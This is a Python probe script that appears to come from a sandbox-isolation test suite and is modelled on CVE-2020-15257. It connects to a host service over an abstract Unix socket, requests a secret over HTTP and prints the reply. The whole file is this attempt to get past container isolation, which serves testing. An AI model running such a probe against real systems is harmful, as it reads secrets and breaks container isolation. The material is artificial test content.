# family: injection
# tries: ask a host service on an abstract unix socket (argv 6; a secrets agent or a container engine's HTTP API, as containerd-shim's was reachable) for a secret and print the answer
# source: https://nvd.nist.gov/vuln/detail/CVE-2020-15257
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
#
# Needs nothing from the file system: only the network namespace hides
# this service. It succeeds when the service answers an HTTP GET with a
# secret.
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
name = sys.argv[6]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect("\0" + name)
    s.sendall(b"GET /v1/secrets/default HTTP/1.0\r\nHost: localhost\r\n\r\n")
    answer = b""
    while len(answer) < 1 << 16:
        chunk = s.recv(4096)
        if not chunk:
            break
        answer += chunk
    print(answer.decode(errors="replace"))
except OSError as e:
    print(f"@{name}: {e}")
